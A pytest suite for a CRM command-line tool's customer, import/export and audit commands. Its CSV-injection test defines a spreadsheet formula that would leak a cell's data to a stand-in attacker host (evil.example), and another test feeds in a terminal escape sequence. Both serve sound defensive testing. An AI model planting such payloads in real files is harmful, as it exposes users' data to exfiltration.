"""The customer commands through click: add, grade, status, Excel round trip, audits."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from openpyxl import load_workbook

from flowkit.cli import main

ROOT = Path(__file__).resolve().parents[2]
HONGDA = [
    "customer",
    "add",
    "上海宏达机械有限公司",
    "--industry",
    "制造业",
    "--size",
    "大型企业",
    "--employees",
    "500-1000人",
    "--revenue",
    "1亿-5亿",
    "--address",
    "上海市浦东新区",
    "--contact",
    "张伟,采购总监,13812345678,zhangwei@hongda.cn,决策人",
    "--owner",
    "li.lei",
    "--field",
    "annual_budget=1200000",
    "--field",
    "decision_chain=clear",
    "--field",
    "intent=strong",
    "--tag",
    "高预算",
    "--keywords",
    "生产管理软件、供应链优化",
    "--first-contact",
    "2026-10-15",
]


@pytest.fixture
def run(tmp_path: Path, migrated_db: Path, processes: Path) -> Any:
    shutil.copyfile(migrated_db, tmp_path / "t.db")  # an empty database, already migrated

    def invoke(*args: str, now: str = "2026-11-02T10:00", db: str = "t.db") -> Result:
        base = ["--db", str(tmp_path / db), "--processes", str(processes)]
        return CliRunner().invoke(main, [*base, "--now", now, *args], catch_exceptions=False)

    return invoke


def test_a_graded_customer_late_on_maintenance_shows_in_status(run: Any) -> None:
    assert run(*HONGDA).output == "added customer C00001 上海宏达机械有限公司\n"
    preview = run("customer", "grade", "--explain")
    assert "C00001 上海宏达机械有限公司: - → A" in preview.output
    assert "annual_budget (年度预算) = 1,200,000 > 1,000,000 ✓" in preview.output
    assert "would change" in preview.output
    assert "1 of 1 grades changed" in run("customer", "grade", "--apply").output
    late = run("status", "--format", "csv", now="2026-12-10T10:00")
    rows = list(csv.reader(io.StringIO(late.output)))
    assert rows[1][:3] == ["C00001", "客户维护（A级）", "上海宏达机械有限公司"]
    assert run("status", "--fail-on-breach", now="2026-12-10T10:00").exit_code == 1


def test_export_into_a_missing_folder_is_refused(run: Any, tmp_path: Path) -> None:
    run(*HONGDA)
    result = run("customer", "export", str(tmp_path / "nowhere" / "客户档案.xlsx"))
    assert result.exit_code == 2
    assert "the folder" in result.output and "does not exist" in result.output
    assert not (tmp_path / "nowhere").exists()


def test_excel_round_trip_keeps_the_profile(run: Any, tmp_path: Path) -> None:
    run(*HONGDA)
    run("customer", "grade", "--apply")
    run("customer", "log", "C00001", "--method", "visit", "--content", "高层拜访")
    out = tmp_path / "客户档案.xlsx"
    assert run("customer", "export", str(out)).exit_code == 0
    book = load_workbook(out)
    assert book.sheetnames == ["客户基础信息表", "客户跟进记录表", "客户分级分类表", "导出信息"]
    first = run("customer", "show", "C00001").output
    imported = run("customer", "import", str(out), db="other.db")
    assert imported.exit_code == 0, imported.output
    assert "imported 1 customers" in imported.output and "1 follow-ups, 1 grades" in imported.output
    again = run("customer", "show", "C00001", db="other.db").output
    assert again.splitlines()[:9] == first.splitlines()[:9]  # the whole profile, same words
    # in Chinese throughout: field values by their labels, timers and methods by name
    assert "决策链 清晰" in first and "[计时中] 客户维护: 每月1次拜访" in first
    assert " 上门拜访 高层拜访 " in first


def test_duplicates_are_reported_then_merged_on_request(run: Any, tmp_path: Path) -> None:
    run(*HONGDA)
    sheet = tmp_path / "新线索.csv"
    sheet.write_text(
        "客户名称,所属行业,联系人姓名,手机号码,负责人\n"
        "上海宏达机械,制造业,李娜,13900001111,li.lei\n"
        "上海宏达机械,制造业,张伟,13812345678,li.lei\n",
        "utf-8-sig",
    )
    refused = run("customer", "import", str(sheet))
    assert refused.exit_code == 2 and "nothing was imported" in refused.output
    assert "名称相同" in refused.output and "手机相同: 13812345678" in refused.output
    merged = run("customer", "import", str(sheet), "--merge")
    assert merged.exit_code == 0, merged.output
    listed = run("customer", "list", "--format", "csv").output
    assert listed.count("\n") == 2  # header + the one merged profile
    contacts = run("customer", "show", "C00001").output
    assert "联系人: 李娜 13900001111" in contacts  # a new contact joins the profile


def test_merge_never_fuses_two_companies_on_one_shared_mobile(run: Any, tmp_path: Path) -> None:
    """A typo'd mobile shared by 华东电子 (one rep's) and 北辰科技 (another's) is no reason to
    fold one into the other: --merge refuses the group, says why, and imports nothing."""
    run(*HONGDA)
    before = run("customer", "show", "C00001", "--format", "json").output
    sheet = tmp_path / "线索.csv"
    sheet.write_text(
        "客户名称,联系人姓名,手机号码,负责人,备注\n"
        "华东电子（集团）有限公司,刘强,13812345678,han.meimei,华东电子的备注\n",
        "utf-8-sig",
    )
    for args in ((), ("--merge",)):
        refused = run("customer", "import", str(sheet), *args)
        assert refused.exit_code == 2 and "nothing was imported" in refused.output
    assert "different people" in refused.output
    same_owner = sheet.read_text("utf-8-sig").replace("han.meimei", "li.lei")
    sheet.write_text(same_owner, "utf-8-sig")
    refused = run("customer", "import", str(sheet), "--merge")
    assert refused.exit_code == 2 and "too little to merge" in refused.output
    assert run("customer", "show", "C00001", "--format", "json").output == before


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("customer", "tag", "C00001", "大客户"), "unknown tag 大客户"),
        (("customer", "edit", "C00001", "--contact", "李四,,12345"), "contact 李四"),
        (("customer", "edit", "C00001", "--stage", "好客户"), "好客户"),
        (("customer", "show", "C09999"), "no customer C09999"),
        (("customer", "add", "X", "--owner", "nobody"), "not a person in org.yaml"),
        (("audit", "sample", "--week", "2026-W60"), "not an ISO week"),
        (("customer", "edit", "C00001", "--order", "ERP,NaN,2026-11-20"), "not an amount"),
        (("customer", "edit", "C00001", "--payment", "2026-11-20,inf"), "not an amount"),
        (("customer", "edit", "C00001", "--field", "annual_budget=NaN"), "annual_budget"),
        (("customer", "edit", "C00001", "--field", "annual_budget=-Infinity"), "annual_budget"),
        (("audit", "sample", "--week", "2026-W48", "--rate", "nan%"), "not a share"),
    ],
)
def test_bad_input_is_a_clear_error(run: Any, args: tuple[str, ...], message: str) -> None:
    run(*HONGDA)
    before = run("customer", "show", "C00001").output
    result = run(*args)
    assert result.exit_code == 2 and message in result.output, result.output
    assert run("customer", "show", "C00001").output == before


def test_the_weekly_sample_is_reproducible_and_keeps_results(run: Any) -> None:
    run(*HONGDA)
    for i in range(9):
        run("customer", "add", f"客户{i}", "--owner", "li.lei" if i % 2 else "han.meimei")
    first = run("audit", "sample", "--week", "2026-W48", "--rate", "20%").output
    assert first.startswith("2026-W48 (all teams): 2 of 10")
    assert run("audit", "sample", "--week", "2026-W48", "--rate", "20%").output == first
    chosen = first.splitlines()[1].split()[0]
    done = run(
        "audit",
        "record",
        chosen,
        "--week",
        "2026-W48",
        "--problem",
        "--note",
        "跟进记录与实际不符",
        "--by",
        "wang.fang",
    )
    assert done.exit_code == 0, done.output
    assert "problem — 跟进记录与实际不符" in run("audit", "sample", "--week", "2026-W48").output
    assert run("audit", "sample", "--week", "2026-W49").output != first  # another week


def test_the_monthly_report_rolls_problems_up_per_owner(run: Any) -> None:
    for i in range(4):
        run("customer", "add", f"客户{i}", "--owner", "li.lei" if i % 2 else "han.meimei")
    run("audit", "sample", "--week", "2026-W45", "--rate", "100%")
    for cid, found in (("C00001", "--problem"), ("C00002", "--problem"), ("C00003", "--ok")):
        note = ("--note", "档案与实际不符") if found == "--problem" else ()
        checked = run(
            "audit", "record", cid, "--week", "2026-W45", found, *note, "--by", "wang.fang"
        )
        assert checked.exit_code == 0, checked.output
    table = run("audit", "report", "--month", "2026-11").output.splitlines()
    assert table[0].split() == ["负责人", "姓名", "团队", "抽查数", "问题数", "问题率"]
    assert table[1].split() == ["han.meimei", "韩梅梅", "east-1", "2", "1", "50.0%"]
    assert table[2].split() == ["li.lei", "李雷", "east-1", "1", "1", "100.0%"]
    rows = json.loads(run("audit", "report", "--month", "2026-11", "--format", "json").output)
    assert rows[0] == {
        "owner": "han.meimei",
        "name": "韩梅梅",
        "team": "east-1",
        "checked": 2,
        "problems": 1,
        "rate": 0.5,
    }
    english = run("audit", "report", "--month", "2026-11", "--format", "csv", "--lang", "en")
    assert english.output.splitlines()[0] == "Owner,Name,Team,Checked,Problems,Problem rate"
    assert run("audit", "report", "--month", "2026-10", "--format", "csv").output.count("\n") == 1
    refused = run("--user", "li.lei", "audit", "report", "--month", "2026-11")
    assert refused.exit_code == 2 and "li.lei (consultant) may not audit report" in refused.output
    bad = run("audit", "report", "--month", "2026-13")
    assert bad.exit_code == 2 and "month '2026-13' is not a month" in bad.output


def test_a_teams_sample_draws_only_that_teams_customers(run: Any, tmp_path: Path) -> None:
    sheet = tmp_path / "客户.csv"  # 华东一组: li.lei, han.meimei; 华南二组: huang.lei, lin.xiaoyu
    rows = [f"华东客户{i},{('li.lei', 'han.meimei')[i % 2]}" for i in range(8)]
    rows += [f"华南客户{i},{('huang.lei', 'lin.xiaoyu')[i % 2]}" for i in range(6)]
    sheet.write_text("客户名称,负责人\n" + "\n".join(rows) + "\n", "utf-8-sig")
    assert run("customer", "import", str(sheet)).exit_code == 0
    east = run("audit", "sample", "--week", "2026-W48", "--rate", "50%", "--team", "east-1")
    assert east.exit_code == 0, east.output
    head, *drawn = east.output.splitlines()
    assert head == "2026-W48 east-1: 4 of 8"
    assert len(drawn) == 4 and all(line.split()[1].startswith("华东客户") for line in drawn)
    assert all(line.split()[2] in ("(li.lei):", "(han.meimei):") for line in drawn)
    south = run("audit", "sample", "--week", "2026-W48", "--rate", "100%", "--team", "south-2")
    head, *drawn = south.output.splitlines()
    assert head == "2026-W48 south-2: 6 of 6"
    assert sorted(line.split()[1] for line in drawn) == [f"华南客户{i}" for i in range(6)]
    everyone = run("audit", "sample", "--week", "2026-W48", "--rate", "100%")
    assert everyone.output.startswith("2026-W48 (all teams): 14 of 14\n")
    unknown = run("audit", "sample", "--week", "2026-W48", "--team", "east-9")
    assert unknown.exit_code == 2
    assert "no team 'east-9' (teams: east-1, south-2, support)" in unknown.output


def test_completeness_by_owner_and_by_customer(run: Any) -> None:
    run(*HONGDA)
    run("customer", "add", "杭州云帆科技", "--owner", "li.lei")
    rows = list(csv.reader(io.StringIO(run("customer", "check", "--format", "csv").output)))
    assert rows[0] == ["编号", "客户名称", "客户数", "完整档案", "档案完整率", "平均完整度"]
    assert rows[1][:5] == ["li.lei", "李雷", "2", "1", "50.0%"]
    detail = run("customer", "check", "--by", "customer", "--below", "100").output
    assert "杭州云帆科技" in detail and "注册地址" in detail and "上海宏达" not in detail


def test_the_history_names_who_changed_what(run: Any) -> None:
    run("--user", "wang.fang", *HONGDA)
    run("--user", "li.lei", "customer", "edit", "C00001", "--stage", "意向客户")
    history = run("customer", "show", "C00001").output.split("变更记录:")[1]
    assert "建档 (wang.fang)" in history
    assert "修改 (li.lei) 客户阶段: 潜在客户 → 意向客户" in history
    unknown = run("--user", "nobody", "customer", "list")
    assert unknown.exit_code == 2 and "not a person in org.yaml" in unknown.output


def _words(line: str) -> str:
    """A table line with its padding taken out."""
    return " ".join(line.split())


def value_fixture(run: Any) -> None:
    """华东一组 has three customers: C00001 won with two orders, C00002 won with one and
    referred by C00001, C00003 referred by C00001 with none."""
    for line in (
        "甲 --owner li.lei --stage won --order MES,100000,2026-01-05 --order CRM,50000,2026-06-01",
        "乙 --owner li.lei --stage won --order MES,80000,2026-03-01 --referred-by C00001",
        "丙 --owner han.meimei --referred-by C00001",
    ):
        assert run("customer", "add", *line.split()).exit_code == 0


def test_value_per_team_from_a_small_book(run: Any) -> None:
    value_fixture(run)
    assert run("customer", "value", "--format", "csv").output.splitlines() == [
        "编号,团队,客户数,成交客户数,下单客户数,复购率,订单复购率,转介绍率,"
        "转介绍客户数,转介绍成交数,订单金额(元)",
        "east-1,华东一组,3,2,2,50.0%,33.3%,50.0%,2,1,230000.00",
    ]
    owners = run("customer", "value", "--by", "owner", "--lang", "en").output
    text = [_words(line) for line in owners.splitlines()]
    assert text[0].startswith("ID Owner Customers Won Buyers Repurchase rate")
    assert text[1:] == [
        "li.lei 李雷 2 2 2 50.0% 33.3% 50.0% 1 1 230,000",
        "han.meimei 韩梅梅 1 0 0 - - - 1 0 0",  # nobody to measure: "-", not 0%
    ]


def test_value_of_an_empty_group_prints_dashes_and_json_nulls(run: Any) -> None:
    value_fixture(run)
    table = [
        _words(line) for line in run("customer", "value", "--team", "south-2").output.splitlines()
    ]
    assert table[1:] == ["south-2 华南二组 0 0 0 - - - 0 0 0"]
    (line,) = json.loads(run("customer", "value", "--team", "south-2", "--format", "json").output)
    assert line["customers"] == 0 and line["revenue"] == 0
    assert line["repurchase_rate"] is line["referral_rate"] is line["repeat_order_share"] is None
    east = json.loads(run("customer", "value", "--format", "json").output)[0]
    assert (east["repurchase_rate"], east["referral_rate"], east["buyers"]) == (0.5, 0.5, 2)


def test_value_per_grade_and_per_customer(run: Any) -> None:
    value_fixture(run)
    strong = "--field annual_budget=1200000 --field decision_chain=clear --field intent=strong"
    run("customer", "edit", "C00003", *strong.split())
    run("customer", "grade", "--apply", "C00001", "C00003")  # C00003: A, C00001: C
    by_grade = run("customer", "value", "--by", "grade", "--format", "csv").output.splitlines()
    assert [line.split(",")[:4] for line in by_grade] == [
        ["客户等级", "客户数", "成交客户数", "下单客户数"],
        ["A", "1", "0", "0"],  # the rules' order, not the amounts'
        ["C", "1", "1", "1"],
        ["-", "1", "1", "1"],  # not graded: last
    ]
    per = run("customer", "value", "--by", "customer", "--owner", "li.lei", "--format", "csv")
    assert [line.split(",")[:7] for line in per.output.splitlines()[1:]] == [
        ["C00001", "甲", "1", "1", "1", "100.0%", "50.0%"],  # 订单复购率: as `customer show`
        ["C00002", "乙", "1", "1", "1", "0.0%", "0.0%"],
    ]
    assert "订单复购率: 50%（2笔订单）" in run("customer", "show", "C00001").output


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--team", "east-9"), "no team 'east-9' (teams: east-1, south-2, support)"),
        (("--owner", "li.le"), "no person 'li.le' in org.yaml (did you mean 'li.lei'?)"),
        (("--by", "region"), "'region' is not one of"),
    ],
)
def test_value_refuses_unknown_teams_and_owners(
    run: Any, args: tuple[str, ...], message: str
) -> None:
    value_fixture(run)
    result = run("customer", "value", *args)
    assert result.exit_code == 2 and message in result.output, result.output


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_csv_output_never_starts_a_formula_and_reads_back_as_it_was(
    run: Any, tmp_path: Path
) -> None:
    """OWASP's CSV injection (issue 10): every CSV flowkit writes guards a cell a spreadsheet
    would run; `customer import` of the export gives the value back exactly."""
    added = run("customer", "add", FORMULA, "--owner", "li.lei", "--needs", "@SUM(A1)")
    assert added.exit_code == 0
    assert run("customer", "add", "--owner", "li.lei", "--", "-5").exit_code == 0
    for args in (
        ("customer", "list"),
        ("customer", "check", "--by", "customer"),
        ("customer", "value", "--by", "customer"),
    ):
        result = run(*args, "--format", "csv")
        assert result.exit_code == 0, result.output
        cells = [c for row in csv.reader(io.StringIO(result.output)) for c in row]
        assert "'" + FORMULA in cells, args
        assert FORMULA not in cells and "-5" in cells, args  # a number-like name stays
    out = tmp_path / "export.csv"
    assert run("customer", "export", str(out)).exit_code == 0
    basic = tmp_path / "export-客户基础信息表.csv"
    with basic.open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'" + FORMULA in cells and "'@SUM(A1)" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert run("customer", "import", str(out), db="again.db").exit_code == 0
    shown = json.loads(run("customer", "show", "C00001", "--format", "json", db="again.db").output)
    assert (shown["customer"]["name"], shown["customer"]["needs"]) == (FORMULA, "@SUM(A1)")


def test_a_confirmation_shows_control_characters_rather_than_obeying_them(run: Any) -> None:
    added = run("customer", "add", "宏达\x1b[2J\x07", "--owner", "li.lei")
    assert added.exit_code == 0
    assert "\x1b" not in added.output and "\\x1b[2J\\x07" in added.output


def test_imported_follow_up_history_is_not_a_late_entry(run: Any, tmp_path: Path) -> None:
    """A team's 2023 visits moved in from Excel are history, not 1,000-day-late logging; a
    visit a person logs three days late still is."""
    from openpyxl import Workbook

    book = Workbook()
    basic = book.active
    basic.title = "客户基础信息表"
    basic.append(["客户名称", "负责人"])
    basic.append(["上海宏达机械有限公司", "li.lei"])
    visits = book.create_sheet("客户跟进记录表")
    visits.append(["客户名称", "跟进日期", "跟进方式", "沟通内容（简要）", "负责人"])
    visits.append(["上海宏达机械有限公司", "2023/10/20", "电话", "确认需求", "li.lei"])
    visits.append(["上海宏达机械有限公司", "2023/11/03", "上门拜访", "演示", "li.lei"])
    history = tmp_path / "客户档案.xlsx"
    book.save(history)
    assert run("customer", "import", str(history)).exit_code == 0
    shown = run("customer", "show", "C00001", "--format", "json").output
    assert len(json.loads(shown)["follow_ups"]) == 2  # the history is on file
    assert _late_entries(run) == []
    late = ("customer", "log", "C00001", "--method", "visit", "--content", "拜访")
    assert run(*late, "--at", "2026-10-30T10:00").exit_code == 0
    assert len(_late_entries(run)) == 1


def _late_entries(run: Any) -> list[Any]:
    alerts = json.loads(run("status", "--format", "json").output)["alerts"]
    return [a for a in alerts if a["customer_id"] and a["sla"] == "24小时内录入跟进记录"]


def test_a_customer_on_file_is_not_added_twice(run: Any) -> None:
    """撞单 at entry: the same company under a variant of its name, or a contact's mobile
    already on file, is refused naming the profile and its owner; --distinct overrides."""
    run(*HONGDA)
    variant = run("customer", "add", "上海宏达机械", "--owner", "han.meimei")
    assert variant.exit_code == 2 and "撞单" in variant.output
    assert "C00001 上海宏达机械有限公司 (li.lei)" in variant.output
    same_mobile = ("customer", "add", "宏达贸易", "--contact", "王五,经理,13812345678")
    assert run(*same_mobile, "--owner", "han.meimei").exit_code == 2
    assert "C00002" not in run("customer", "list", "--format", "csv").output
    other = run("customer", "add", "上海宏达机械", "--owner", "han.meimei", "--distinct")
    assert other.exit_code == 0 and "C00002" in other.output


def test_an_opportunity_links_only_its_owners_customer_and_never_guesses(run: Any) -> None:
    run(*HONGDA)
    start = ("start", "standard-sales", "--name", "MES", "--field", "segment=large")
    theirs = run(*start, "--customer", "上海宏达机械有限公司", "--owner", "han.meimei")
    assert theirs.exit_code == 2 and "li.lei's" in theirs.output and "撞单" in theirs.output
    mine = run(*start, "--customer", "上海宏达机械有限公司", "--owner", "li.lei")
    assert mine.exit_code == 0, mine.output
    shown = json.loads(run("customer", "show", "C00001", "--format", "json").output)
    assert len(shown["opportunities"]) == 1
    twin = ("customer", "add", "上海宏达机械有限公司", "--owner", "li.lei", "--distinct")
    assert run(*twin).exit_code == 0
    both = run(*start, "--customer", "上海宏达机械有限公司", "--owner", "li.lei")
    assert both.exit_code == 2 and "C00001" in both.output and "C00002" in both.output


def test_an_opportunity_named_by_a_variant_of_the_name_is_that_customer(run: Any) -> None:
    """撞单 by a short name: 上海宏达机械 is 上海宏达机械有限公司 (as dedupe compares names),
    another rep's deal on it is refused and its owner's is linked to the profile."""
    run(*HONGDA)
    start = ("start", "standard-sales", "--name", "MES", "--field", "segment=large")
    theirs = run(*start, "--customer", "上海宏达机械", "--owner", "han.meimei")
    assert theirs.exit_code == 2 and "撞单" in theirs.output and "C00001" in theirs.output
    mine = run(*start, "--customer", "上海宏达机械", "--owner", "li.lei")
    assert mine.exit_code == 0, mine.output
    shown = json.loads(run("customer", "show", "C00001", "--format", "json").output)
    assert [deal["id"] for deal in shown["opportunities"]] == [1]
    assert json.loads(run("show", "1", "--format", "json").output)["customer"] == (
        "上海宏达机械有限公司"
    )


def test_a_deal_started_before_its_profile_is_linked_later(run: Any) -> None:
    start = ("start", "standard-sales", "--name", "MES", "--field", "segment=large")
    assert run(*start, "--customer", "北辰", "--owner", "li.lei").exit_code == 0
    run(*HONGDA)
    unknown = run("set", "1", "--customer", "C00009")
    assert unknown.exit_code == 2 and "no customer C00009" in unknown.output
    assert run("set", "1", "--customer", "C00001").exit_code == 0
    shown = json.loads(run("customer", "show", "C00001", "--format", "json").output)
    assert len(shown["opportunities"]) == 1
    assert json.loads(run("show", "1", "--format", "json").output)["customer"] == (
        "上海宏达机械有限公司"
    )
    assert run(*start, "--customer", "北辰", "--owner", "han.meimei").exit_code == 0
    theirs = run("set", "2", "--customer", "C00001")
    assert theirs.exit_code == 2 and "撞单" in theirs.output


def test_an_export_imported_back_adds_no_follow_up_twice(run: Any, tmp_path: Path) -> None:
    run(*HONGDA)
    for content in ("电话确认需求", "上门演示"):
        logged = run("customer", "log", "C00001", "--method", "visit", "--content", content)
        assert logged.exit_code == 0
    exported = tmp_path / "档案.xlsx"
    assert run("customer", "export", str(exported)).exit_code == 0
    back = run("customer", "import", str(exported), "--merge")
    assert back.exit_code == 0, back.output
    shown = json.loads(run("customer", "show", "C00001", "--format", "json").output)
    assert sorted(f["content"] for f in shown["follow_ups"]) == ["上门演示", "电话确认需求"]
    assert len(run("customer", "list", "--format", "csv").output.splitlines()) == 2


def test_an_export_edited_in_excel_comes_back_as_edits(run: Any, tmp_path: Path) -> None:
    """The round trip: an unchanged export changes nothing and says so; the cells edited in
    Excel become profile changes with their history — no duplicate groups, no --merge."""
    from openpyxl import load_workbook

    run(*HONGDA)
    exported = tmp_path / "档案.xlsx"
    assert run("customer", "export", str(exported)).exit_code == 0
    before = json.loads(run("customer", "show", "C00001", "--format", "json").output)
    same = run("customer", "import", str(exported))
    assert same.exit_code == 0, same.output
    assert "0 profiles on file updated from their rows, 1 unchanged" in same.output
    assert json.loads(run("customer", "show", "C00001", "--format", "json").output) == before
    book = load_workbook(exported)
    sheet = book["客户基础信息表"]
    header = [c.value for c in sheet[1]]
    sheet.cell(row=2, column=header.index("注册地址") + 1, value="上海市闵行区")
    book.save(exported)
    edited = run("customer", "import", str(exported))
    assert edited.exit_code == 0, edited.output
    assert "1 profiles on file updated" in edited.output
    after = json.loads(run("customer", "show", "C00001", "--format", "json").output)
    assert after["customer"]["address"] == "上海市闵行区"
    assert after["customer"]["contacts"] == before["customer"]["contacts"]
    assert len(after["history"]) == len(before["history"]) + 1
    assert len(run("customer", "list", "--format", "csv").output.splitlines()) == 2


def test_a_dry_run_says_what_each_import_would_do_and_writes_nothing(
    run: Any, tmp_path: Path
) -> None:
    import sqlite3

    run(*HONGDA)
    sheet = tmp_path / "线索.csv"
    sheet.write_text("客户名称,负责人\n杭州云帆科技有限公司,li.lei\n", "utf-8-sig")
    deals = tmp_path / "跟踪表.csv"
    deals.write_text(
        "商机名称,客户名称,当前阶段,负责人,客户规模\nCRM,杭州云帆,商机跟进,li.lei,大型企业\n"
        "ERP,上海宏达机械,商机跟进,li.lei,大型企业\n",
        "utf-8-sig",
    )

    def dump() -> list[str]:
        with sqlite3.connect(tmp_path / "t.db") as db:
            return list(db.iterdump())

    before = dump()
    tried = run("customer", "import", str(sheet), "--dry-run")
    assert tried.exit_code == 0 and "imported 1 customers" in tried.output
    assert "nothing was written" in tried.output
    tracked = run("import", str(deals), "--process", "standard-sales", "--dry-run")
    assert tracked.exit_code == 0 and "imported 2 opportunities" in tracked.output
    # each opportunity it would create, named by the customer it would be linked to (none
    # on file for 杭州云帆: that import was a dry run too)
    assert "new: CRM · 杭州云帆 · li.lei · 商机跟进" in tracked.output
    assert "new: ERP · 上海宏达机械有限公司 · li.lei · 商机跟进" in tracked.output
    assert dump() == before
    assert run("import", str(deals), "--process", "standard-sales").exit_code == 0  # for real


def test_an_import_refused_for_anothers_customers_names_them(run: Any, tmp_path: Path) -> None:
    """A manager importing a file that holds another team's customers is told whose and
    which, not only that something was not permitted."""
    sheet = tmp_path / "客户.csv"
    sheet.write_text(
        "客户名称,负责人\n北辰科技有限公司,li.lei\n南方物流有限公司,huang.lei\n", "utf-8-sig"
    )
    refused = run("--user", "wang.fang", "customer", "import", str(sheet))
    assert refused.exit_code == 2
    assert "customers of huang.lei in 客户.csv (南方物流有限公司)" in refused.output
    assert "北辰科技" not in refused.output
